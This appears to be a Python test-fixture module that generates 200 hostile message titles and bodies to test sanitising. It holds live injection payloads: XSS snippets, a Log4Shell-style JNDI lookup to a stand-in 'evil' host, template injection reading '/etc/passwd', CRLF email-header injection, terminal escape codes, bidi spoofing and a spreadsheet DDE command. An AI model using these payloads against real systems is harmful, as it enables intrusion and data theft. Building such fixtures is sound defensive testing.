"""200 titles and bodies that try to be markup, mentions, links, headers, templates or terminal codes."""

from __future__ import annotations

import itertools

ACTIVE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</title></h2><iframe src=//evil>",
    "<a href='javascript:alert(1)'>x</a>", "<!channel> <!here> <!everyone>", "<@U024BE7LH> <#C024BE7LR>",
    "<https://evil.example|harmless>", "[harmless](https://evil.example)", "![x](https://evil.example/p.png)",
    "@channel @everyone @here", "{{ 7 * 7 }} {% include '/etc/passwd' %}", "${jndi:ldap://evil} #{7*7} <%= 7*7 %>",
    "a\r\nBcc: victim@example.org\r\n\r\nbody", "line\u2028separator\u0085next\x0bvertical", "\x1b[2J\x1b]0;owned\x07",
    "\u202egnp.exe \u2066hidden\u2069", "nul\x00 bell\x07 back\x08", "&lt;script&gt;alert(1)&lt;/script&gt;", "=cmd|' /C calc'!A0",
]  # fmt: skip
_FRAMES = [
    "{}", "갈륨 {} 수출통제", "{}" * 3, "*{}* _{}_ ~{}~ `{}`", "```\n{}\n```", "> {}\n# {}", "{}\u200b\ufeff{}",
    "x" * 300 + "{}", "<!--{}-->", "]]>{}<![CDATA[",
]  # fmt: skip


def hostile_texts() -> list[str]:
    return [frame.replace("{}", active) for frame, active in itertools.product(_FRAMES, ACTIVE)]
